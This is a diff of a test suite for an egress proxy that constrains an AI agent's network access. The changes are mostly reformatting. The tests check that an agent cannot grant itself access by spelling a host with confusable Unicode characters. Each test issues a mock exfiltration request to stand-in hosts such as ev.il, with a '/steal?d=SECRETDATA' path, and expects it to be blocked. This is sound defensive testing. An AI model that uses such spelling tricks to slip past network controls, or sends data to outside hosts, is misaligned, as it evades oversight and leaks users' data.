@@ -21,13 +21,15 @@ beforeAll(async () => {
     res.writeHead(200, { 'content-type': 'application/json' });
     res.end(JSON.stringify({ results: [{ title: 'you searched for', url: q }] }));
   });
-  leash = await startLeash(policy(`
+  leash = await startLeash(
+    policy(`
 settings:
   dns: { hosts: { search.test: 127.0.0.1, ev.il: 127.0.0.1, xq.io: 127.0.0.1, kiss.io: 127.0.0.1, za.io: 127.0.0.1 } }
   network: { allowCidrs: ["127.0.0.0/8"] }
 rules:
   - { name: search, domain: search.test, ports: [${api.port}], inspect: [json], effect: allow }
-`));
+`),
+  );
 });
 
 afterAll(async () => {
@@ -43,13 +45,21 @@ for (const [name, ch, host] of [
   ['capital sharp s U+1E9E (IDNA maps it to "ss")', '', 'kiss.io'],
 ] as const) {
   it(`an agent cannot self-grant ${host} by writing it with a ${name} (README: never granted what the request carried)`, async () => {
-    const spelled = ch === '' ? `http://ki\u1e9e.io:${sink.port}/` : `http://${host[0]}${ch}${host.slice(1)}:${sink.port}/`;
-    const search = await curl({ url: `http://search.test:${api.port}/search?q=${encodeURIComponent(spelled)}`, proxy: leash.url });
+    const spelled =
+      ch === '' ? `http://ki\u1e9e.io:${sink.port}/` : `http://${host[0]}${ch}${host.slice(1)}:${sink.port}/`;
+    const search = await curl({
+      url: `http://search.test:${api.port}/search?q=${encodeURIComponent(spelled)}`,
+      proxy: leash.url,
+    });
     expect(search.status).toBe(200);
     const exfil = await curl({ url: `http://${host}:${sink.port}/steal?d=SECRETDATA`, proxy: leash.url });
     const records = await leash.records();
     const grants = records.filter((r) => r.reason === 'granted' && r.host === host).map((r) => `${r.reason} ${r.host}`);
     // README: "a host that appears anywhere in the request ... is never granted".
-    expect({ status: exfil.status, grants, sinkSaw: sink.seen.filter((s) => String(s.headers.host).startsWith(host)).map((s) => s.url) }).toEqual({ status: 403, grants: [], sinkSaw: [] });
+    expect({
+      status: exfil.status,
+      grants,
+      sinkSaw: sink.seen.filter((s) => String(s.headers.host).startsWith(host)).map((s) => s.url),
+    }).toEqual({ status: 403, grants: [], sinkSaw: [] });
   });
 }
